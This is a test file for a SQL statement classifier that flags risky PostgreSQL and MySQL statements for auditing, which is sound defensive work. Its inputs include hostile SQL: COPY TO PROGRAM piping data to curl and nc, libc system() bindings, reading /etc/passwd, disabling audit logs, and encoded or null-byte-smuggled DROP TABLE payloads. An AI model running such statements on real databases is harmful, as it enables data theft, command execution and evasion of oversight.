import { loadModule, parseSync } from 'libpg-query';
import { beforeAll, describe, expect, it } from 'vitest';
import type { StatementFacts } from '../events/statement-facts.ts';
import type { PgParser } from './facts.ts';
import { LONG_STATEMENT, understand } from './understand.ts';

const pgParser: PgParser = {
  parse(text) {
    try {
      return parseSync(text);
    } catch {
      return undefined;
    }
  },
};

beforeAll(loadModule);

/** Facts on one line: `class | action | type:name:access … | columns | flags`. */
function line({ class: eventClass, action, objects, columns, flags }: StatementFacts): string {
  const named = objects.map(({ type, name, access }) => `${type}:${name}:${access}`).join(' ');
  return [eventClass, action, named, columns.join(' '), flags.join(' ')].join(' | ').replace(/ +/g, ' ');
}

describe('PostgreSQL, by the grammar and by tokens alike', () => {
  it.each([
    // Reading
    ['SELECT 1', 'data_read | SELECT | | | '],
    ['SELECT * FROM sales.customers', 'data_read | SELECT | table:sales.customers:read | * | bulk_read'],
    ['TABLE customers', 'data_read | SELECT | table:customers:read | * | bulk_read'],
    ['SELECT * FROM customers LIMIT ALL', 'data_read | SELECT | table:customers:read | * | bulk_read'],
    ['SELECT * FROM customers LIMIT 10', 'data_read | SELECT | table:customers:read | * | '],
    ['SELECT * FROM customers WHERE id = 1', 'data_read | SELECT | table:customers:read | * id | '],
    ['SELECT count(*) FROM (SELECT * FROM customers) c', 'data_read | SELECT | table:customers:read | * | '],
    [
      'WITH c AS (SELECT * FROM customers) SELECT * FROM c',
      'data_read | SELECT | table:customers:read | * | bulk_read',
    ],
    [
      'WITH customers AS (SELECT * FROM customers) SELECT * FROM customers',
      'data_read | SELECT | table:customers:read | * | bulk_read',
    ],
    ['SELECT * FROM pg_class', 'data_read | SELECT | table:pg_class:read | * | '],
    ['SELECT * FROM pg_shadow', 'data_read | SELECT | table:pg_shadow:read | * | bulk_read'],
    [
      'SELECT c.name AS n, o.amount x FROM "C" c JOIN orders o USING (id) WHERE upper(c.email) IN (SELECT e FROM s.emails)',
      'data_read | SELECT | table:"C":read table:orders:read table:s.emails:read | name amount id email e | ',
    ],
    [
      'SELECT s.rate(1), pg_read_file($1)',
      'data_read | SELECT | function:s.rate:execute function:pg_read_file:execute | | program_execution',
    ],
    [
      "SELECT set_config('pgaudit.log', 'none', false)",
      'audit_change | SELECT | function:set_config:execute | | audit_change',
    ],
    ["SELECT set_config('search_path', '', false)", 'data_read | SELECT | function:set_config:execute | | '],
    [
      'SELECT pg_terminate_backend(1)',
      'administration | SELECT | function:pg_terminate_backend:execute | | ',
    ],
    ['EXPLAIN DELETE FROM t', 'other | EXPLAIN | table:t:write | | '],
    ['EXPLAIN ANALYZE DELETE FROM t', 'data_write | EXPLAIN | table:t:write | | destructive'],
    ['DECLARE c CURSOR FOR SELECT a FROM t', 'data_read | DECLARE CURSOR | table:t:read | a | '],
    // Copying
    ["COPY t TO '/tmp/x'", 'data_read | COPY TO | table:t:read file:/tmp/x:write | | bulk_read export'],
    [
      "COPY (SELECT a FROM t WHERE b = 1) TO PROGRAM 'curl -T - x'",
      'data_read | COPY TO | table:t:read program:curl -T - x:execute | a b | export program_execution',
    ],
    ['COPY s.t (a, b) FROM STDIN', 'data_write | COPY FROM | table:s.t:write | a b | '],
    // Changing data
    [
      'INSERT INTO t (a, b) SELECT * FROM u',
      'data_write | INSERT | table:t:write table:u:read | a b * | bulk_read',
    ],
    [
      'INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET b = excluded.b',
      'data_write | INSERT | table:t:write | a b | ',
    ],
    ['UPDATE t SET a = 1', 'data_write | UPDATE | table:t:write | a | destructive'],
    [
      'UPDATE t SET a = u.b FROM u WHERE t.id = u.id',
      'data_write | UPDATE | table:t:write table:u:read | a b id | ',
    ],
    [
      'DELETE FROM ONLY t USING u WHERE t.a = u.a RETURNING *',
      'data_write | DELETE | table:t:write table:u:read | a * | ',
    ],
    [
      'WITH gone AS (DELETE FROM t RETURNING a) SELECT a FROM gone',
      'data_write | SELECT | table:t:write | a | destructive',
    ],
    [
      'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v',
      'data_write | MERGE | table:t:write table:s:read | id v | ',
    ],
    ['TRUNCATE a, b CASCADE', 'data_write | TRUNCATE TABLE | table:a:write table:b:write | | destructive'],
    // Definitions
    [
      'CREATE TABLE IF NOT EXISTS s.t (a int PRIMARY KEY, b text, CHECK (a > 0))',
      'schema_change | CREATE TABLE | table:s.t:create | a b | ',
    ],
    [
      'CREATE TABLE x AS SELECT * FROM y',
      'schema_change | CREATE TABLE AS | table:x:create table:y:read | * | bulk_read',
    ],
    ['SELECT a INTO TEMP x FROM y', 'schema_change | SELECT INTO | table:x:create table:y:read | a | '],
    [
      'ALTER TABLE t DROP COLUMN a, ADD b int',
      'schema_change | ALTER TABLE | table:t:alter | a b | destructive',
    ],
    ['ALTER TABLE t DISABLE TRIGGER ALL', 'schema_change | ALTER TABLE | table:t:alter | | routine_change'],
    [
      'ALTER TABLE t DISABLE ROW LEVEL SECURITY',
      'schema_change | ALTER TABLE | table:t:alter | | privilege_change',
    ],
    ['ALTER VIEW v OWNER TO joe', 'schema_change | ALTER VIEW | view:v:alter | | privilege_change'],
    ['DROP VIEW IF EXISTS a, s.b', 'schema_change | DROP VIEW | view:a:drop view:s.b:drop | | destructive'],
    [
      'DROP TRIGGER g ON s.t',
      'schema_change | DROP TRIGGER | trigger:g:drop table:s.t:alter | | destructive routine_change',
    ],
    ['CREATE INDEX i ON t (a)', 'schema_change | CREATE INDEX | index:i:create table:t:alter | | '],
    ['CREATE VIEW v AS SELECT * FROM t', 'schema_change | CREATE VIEW | view:v:create table:t:read | * | '],
    [
      'REFRESH MATERIALIZED VIEW m',
      'schema_change | REFRESH MATERIALIZED VIEW | materialized view:m:write | | ',
    ],
    ['COMMENT ON COLUMN s.t.c IS NULL', 'schema_change | COMMENT | table:s.t:alter | c | '],
    ["SECURITY LABEL ON TABLE t IS 'x'", 'schema_change | SECURITY LABEL | table:t:alter | | '],
    // Routines
    [
      "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
      'schema_change | CREATE FUNCTION | function:f:create | | routine_change',
    ],
    [
      "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE ' || x; END $$",
      'schema_change | CREATE FUNCTION | function:f:create | | destructive dynamic_sql routine_change',
    ],
    [
      "CREATE FUNCTION sys(text) RETURNS int LANGUAGE c AS '/lib/libc.so.6', 'system'",
      'schema_change | CREATE FUNCTION | function:sys:create | | program_execution routine_change',
    ],
    [
      'CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END',
      'schema_change | CREATE PROCEDURE | procedure:p:create | | destructive routine_change',
    ],
    [
      'CREATE TRIGGER g AFTER INSERT ON t EXECUTE FUNCTION f()',
      'schema_change | CREATE TRIGGER | trigger:g:create table:t:alter | | routine_change',
    ],
    [
      "DO $$ BEGIN COPY t TO PROGRAM 'nc x'; GRANT a TO b; END $$",
      'execution | DO | | | bulk_read export privilege_change program_execution',
    ],
    ["DO LANGUAGE plpython3u 'import os'", 'execution | DO | | | program_execution'],
    ['CALL s.p(1)', 'execution | CALL | procedure:s.p:execute | | '],
    ['EXECUTE q(1)', 'execution | EXECUTE | | | '],
    ['PREPARE q AS DELETE FROM t WHERE a = $1', 'data_write | PREPARE | table:t:write | a | '],
    // Roles and privileges
    [
      'GRANT SELECT (a), UPDATE ON s.t, u TO bob, PUBLIC',
      'authorization | GRANT | table:s.t:grant table:u:grant role:bob:grant role:public:grant | a | privilege_change',
    ],
    [
      'GRANT EXECUTE ON FUNCTION f(int) TO bob',
      'authorization | GRANT | function:f:grant role:bob:grant | | privilege_change',
    ],
    [
      'REVOKE ALL ON ALL TABLES IN SCHEMA s FROM bob',
      'authorization | REVOKE | schema:s:grant role:bob:grant | | privilege_change',
    ],
    [
      'GRANT dba TO bob WITH ADMIN OPTION',
      'authorization | GRANT ROLE | role:dba:grant role:bob:grant | | privilege_change',
    ],
    [
      "CREATE USER bob SUPERUSER PASSWORD 'x'",
      'authorization | CREATE ROLE | role:bob:create | | privilege_change',
    ],
    ['ALTER ROLE bob SUPERUSER', 'authorization | ALTER ROLE | role:bob:alter | | privilege_change'],
    [
      'DROP USER a, b',
      'authorization | DROP ROLE | role:a:drop role:b:drop | | destructive privilege_change',
    ],
    [
      'REASSIGN OWNED BY a TO b',
      'authorization | REASSIGN OWNED | role:a:alter role:b:alter | | privilege_change',
    ],
    ['SET ROLE admin', 'authorization | SET ROLE | role:admin:read | | '],
    ["SET SESSION AUTHORIZATION 'Bob'", 'authorization | SET SESSION AUTHORIZATION | role:"Bob":read | | '],
    // Settings, auditing
    ["SET search_path = 'x'", 'session | SET | | | '],
    ["SET pgaudit.log = 'none'", 'audit_change | SET | | | audit_change'],
    ['RESET log_statement', 'audit_change | RESET | | | audit_change'],
    ["ALTER SYSTEM SET work_mem = '1GB'", 'administration | ALTER SYSTEM | | | '],
    ['ALTER SYSTEM SET logging_collector = off', 'audit_change | ALTER SYSTEM | | | audit_change'],
    [
      "ALTER ROLE bob SET pgaudit.log = 'none'",
      'audit_change | ALTER ROLE | role:bob:alter | | audit_change',
    ],
    ["ALTER ROLE bob SET work_mem = '1GB'", 'authorization | ALTER ROLE | role:bob:alter | | '],
    ['ALTER DATABASE d RESET ALL', 'audit_change | ALTER DATABASE | database:d:alter | | audit_change'],
    [
      'DROP EXTENSION pgaudit',
      'audit_change | DROP EXTENSION | extension:pgaudit:drop | | destructive audit_change',
    ],
    // The rest
    ['BEGIN ISOLATION LEVEL SERIALIZABLE', 'session | BEGIN | | | '],
    ['LOCK TABLE a, b', 'session | LOCK TABLE | table:a:read table:b:read | | '],
    ['VACUUM FULL s.t', 'administration | VACUUM | table:s.t:alter | | '],
    ["LOAD 'evil.so'", 'administration | LOAD | library:evil.so:execute | | program_execution'],
    ['SHOW all', 'other | SHOW | | | '],
    // Several: the first one's action, the gravest class, everything's objects and flags
    [
      'BEGIN; SELECT a FROM t; DROP TABLE u; COMMIT',
      'schema_change | BEGIN | table:t:read table:u:drop | a | destructive',
    ],
  ])('%s', (text, expected) => {
    const tree = understand(text, { dialect: 'postgresql', pgParser });
    const tokens = understand(text, { dialect: 'postgresql' });
    expect(line(tree)).toBe(expected);
    expect(tree).toMatchObject({ parser: 'libpg-query', confidence: 'high' });
    expect(tokens).toEqual({ ...tree, parser: 'tokenizer', confidence: 'medium' });
  });

  it.each([
    [
      'ALTER USER bob PASSWORD <REDACTED>',
      'authorization | ALTER ROLE | role:bob:alter | | privilege_change',
    ],
    ["BASE_BACKUP (LABEL 'x')", 'administration | BASE_BACKUP | | | bulk_read export'],
    [
      "\\copy s.t to '/tmp/x' csv",
      'data_read | COPY TO | table:s.t:read file:/tmp/x:write | | bulk_read export',
    ],
    ['SELECT 1\0; DROP TABLE x', 'schema_change | SELECT | table:x:drop | | destructive obfuscated'],
    ['SELEC 1', 'other | UNKNOWN | | | '],
    ['', 'other | UNKNOWN | | | '],
  ])('reads what the grammar does not take: %j', (text, expected) => {
    const facts = understand(text, { dialect: 'postgresql', pgParser });
    expect(line(facts)).toBe(expected);
  });
});

describe('MySQL and MariaDB', () => {
  it.each([
    ['SELECT * FROM `Shop`.`customers`', 'data_read | SELECT | table:Shop.customers:read | * | bulk_read'],
    [
      "SELECT * FROM t WHERE a = 1 INTO OUTFILE '/tmp/x'",
      'data_read | SELECT INTO OUTFILE | table:t:read file:/tmp/x:write | * a | export',
    ],
    [
      "SELECT a INTO DUMPFILE '/tmp/x' FROM t",
      'data_read | SELECT INTO DUMPFILE | file:/tmp/x:write table:t:read | a | export',
    ],
    [
      'SELECT /*!40001 SQL_NO_CACHE */ `a`, `b` FROM `t`',
      'data_read | SELECT | table:t:read | a b | bulk_read export',
    ],
    [
      "SELECT load_file('/etc/passwd')",
      'data_read | SELECT | function:load_file:execute | | program_execution',
    ],
    [
      "LOAD DATA LOCAL INFILE 'x' INTO TABLE db.t",
      'data_write | LOAD DATA | table:db.t:write file:x:read | | ',
    ],
    ['REPLACE INTO t SET a = 1', 'data_write | REPLACE | table:t:write | a | '],
    ['INSERT t (a) VALUES (1) ON DUPLICATE KEY UPDATE b = 2', 'data_write | INSERT | table:t:write | a b | '],
    [
      'UPDATE a JOIN b ON a.x = b.x SET a.y = 1',
      'data_write | UPDATE | table:a:write table:b:write | x y | destructive',
    ],
    [
      'DELETE a FROM a JOIN b USING (x) WHERE b.y = 1',
      'data_write | DELETE | table:a:write table:a:read table:b:read | x y | ',
    ],
    ['HANDLER t READ FIRST', 'data_read | HANDLER | table:t:read | | '],
    [
      'CREATE DEFINER=`a`@`b` PROCEDURE p() BEGIN DELETE FROM t; SELECT 1; END',
      'schema_change | CREATE PROCEDURE | procedure:p:create | | destructive routine_change',
    ],
    [
      'CREATE TRIGGER g BEFORE INSERT ON t FOR EACH ROW SET NEW.a = 1',
      'schema_change | CREATE TRIGGER | trigger:g:create table:t:alter | | routine_change',
    ],
    [
      'CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO TRUNCATE t',
      'schema_change | CREATE EVENT | event:e:create | | destructive routine_change',
    ],
    [
      "CREATE FUNCTION sys_exec RETURNS int SONAME 'udf.so'",
      'schema_change | CREATE FUNCTION | function:sys_exec:create | | program_execution routine_change',
    ],
    ['RENAME TABLE a TO b, c TO d', 'schema_change | RENAME TABLE | table:a:alter table:c:alter | | '],
    ["PREPARE s FROM 'DROP TABLE t'", 'execution | PREPARE FROM | | | destructive dynamic_sql'],
    [
      "EXECUTE IMMEDIATE 'GRANT ALL ON *.* TO x'",
      'execution | EXECUTE IMMEDIATE | | | privilege_change dynamic_sql',
    ],
    [
      "GRANT ALL ON shop.* TO 'bob'@'%' IDENTIFIED BY 'pw, x' WITH GRANT OPTION",
      'authorization | GRANT | database:shop:grant user:bob@%:grant | | privilege_change',
    ],
    [
      "CREATE USER 'a'@'h' IDENTIFIED BY 'p', 'b'@'%'",
      'authorization | CREATE USER | user:a@h:create user:b@%:create | | privilege_change',
    ],
    [
      "SET PASSWORD FOR 'a'@'h' = PASSWORD('x')",
      'authorization | SET PASSWORD | user:a@h:alter | | privilege_change',
    ],
    ['SET GLOBAL server_audit_logging = OFF', 'audit_change | SET GLOBAL | | | audit_change'],
    ['SET @@global.general_log = 0', 'audit_change | SET | | | audit_change'],
    ['SET @general_log = 1', 'session | SET | | | '],
    ['SET sql_log_bin = 0', 'audit_change | SET | | | audit_change'],
    ['SET GLOBAL max_connections = 10', 'administration | SET GLOBAL | | | '],
    [
      'UNINSTALL PLUGIN server_audit',
      'audit_change | UNINSTALL PLUGIN | plugin:server_audit:drop | | audit_change',
    ],
    ["INSTALL SONAME 'ha_x'", 'administration | INSTALL SONAME | plugin:ha_x:create | | program_execution'],
    ['FLUSH PRIVILEGES', 'authorization | FLUSH PRIVILEGES | | | '],
    ['PURGE BINARY LOGS BEFORE now()', 'administration | PURGE BINARY LOGS | | | destructive'],
    ["CHANGE MASTER TO MASTER_HOST = 'x'", 'administration | CHANGE MASTER | | | '],
    ['KILL QUERY 5', 'administration | KILL | | | '],
    ["XA PREPARE 'x'", 'session | XA | | | '],
    ['SHOW GRANTS', 'other | SHOW | | | '],
    ['USE shop', 'session | USE | database:shop:read | | '],
    ['BEGIN NOT ATOMIC DELETE FROM t; END', 'session | BEGIN | | | destructive'],
    [
      'DELIMITER //\nCREATE PROCEDURE p() BEGIN SELECT 1; END//\nDROP TABLE t//',
      'schema_change | CREATE PROCEDURE | procedure:p:create table:t:drop | | destructive routine_change',
    ],
  ])('%s', (text, expected) => {
    const facts = understand(text, { dialect: 'mysql' });
    expect(line(facts)).toBe(expected);
    expect(facts).toMatchObject({ parser: 'tokenizer', confidence: 'medium' });
  });
});

describe('texts that hide what they do', () => {
  it.each<[string, string, 'postgresql' | 'mysql']>([
    ['a comment for a blank', 'DROP/**/TABLE x', 'postgresql'],
    ['an executable comment around a key word', 'SELECT 1 /*!50000UNION*/ SELECT 2', 'mysql'],
    ['a text spelled by CHR', 'SELECT chr(68)||chr(82)||chr(79)||chr(80)', 'postgresql'],
    ['a text spelled by CHAR', 'SELECT CHAR(68,82,79,80)', 'mysql'],
    ['joined crumbs', `SELECT ${"'a'||".repeat(9)}'b'`, 'postgresql'],
    ['SQL in hex', 'SET @q = 0x44524f50205441424c452078', 'mysql'],
    ['SQL in base64', "SELECT from_base64('RFJPUCBUQUJMRSB4')", 'mysql'],
    ['decoded bytes', "SELECT convert_from(decode('00', 'hex'), 'utf8')", 'postgresql'],
    ['escapes of plain letters', "SELECT E'\\x44\\x52\\x4f\\x50\\x20\\x54'", 'postgresql'],
    ['an escaped identifier', 'SELECT U&"d\\0061t" FROM t', 'postgresql'],
    ['key words in mixed case', 'sElEcT a fRoM t', 'postgresql'],
    ['a bidirectional mark', 'SELECT a\u202e FROM t', 'postgresql'],
  ])('%s', (_, text, dialect) => {
    expect(understand(text, { dialect }).flags).toContain('obfuscated');
  });

  it.each<[string, 'postgresql' | 'mysql']>([
    ['SELECT /* hint */ a, /* b */ c FROM t /* end */', 'postgresql'],
    ['SELECT /*!40001 SQL_NO_CACHE */ * FROM t', 'mysql'],
    ["INSERT INTO t VALUES (0x89504e470d0a1a0a0000000d, decode('deadbeef', 'hex'), 'a' || 'b')", 'mysql'],
    ["Select a From t Where b = E'line\\nline'", 'postgresql'],
    ["SELECT 'مرحبا \u200f', 'abcdefghijklmnop'", 'postgresql'],
  ])('is not seen in %s', (text, dialect) => {
    expect(understand(text, { dialect }).flags).not.toContain('obfuscated');
  });

  it('calls code that has to be decoded wrapped', () => {
    const body = "DO $$ BEGIN EXECUTE convert_from(decode('RFJPUA==', 'base64'), 'utf8'); END $$";
    expect(understand(body, { dialect: 'postgresql' }).flags).toEqual([
      'dynamic_sql',
      'wrapped_code',
      'obfuscated',
    ]);
    expect(understand('PREPARE s FROM 0x44524f50205441424c452078', { dialect: 'mysql' }).flags).toContain(
      'wrapped_code',
    );
  });
});

describe('texts that were cut', () => {
  it('proves nothing by what is missing', () => {
    for (const text of ['DELETE FROM t', 'SELECT * FROM t', 'UPDATE t SET a = 1']) {
      const facts = understand(text, { dialect: 'postgresql', truncated: true, pgParser });
      expect(facts).toMatchObject({ flags: [], parser: 'tokenizer', confidence: 'low' });
    }
    expect(understand("SELECT * FROM t WHERE a = 'x", { dialect: 'mysql' }).confidence).toBe('low');
  });

  it('keeps what is there', () => {
    const facts = understand('DROP TABLE a, b, cust', { dialect: 'mysql', truncated: true });
    expect(line(facts)).toBe(
      'schema_change | DROP TABLE | table:a:drop table:b:drop table:cust:drop | | destructive',
    );
  });

  it('flags a long text', () => {
    expect(understand(`SELECT ${' '.repeat(LONG_STATEMENT - 8)}1`, { dialect: 'mysql' }).flags).toEqual([
      'long_statement',
    ]);
    expect(understand(`SELECT ${' '.repeat(LONG_STATEMENT - 9)}1`, { dialect: 'mysql' }).flags).toEqual([]);
  });
});
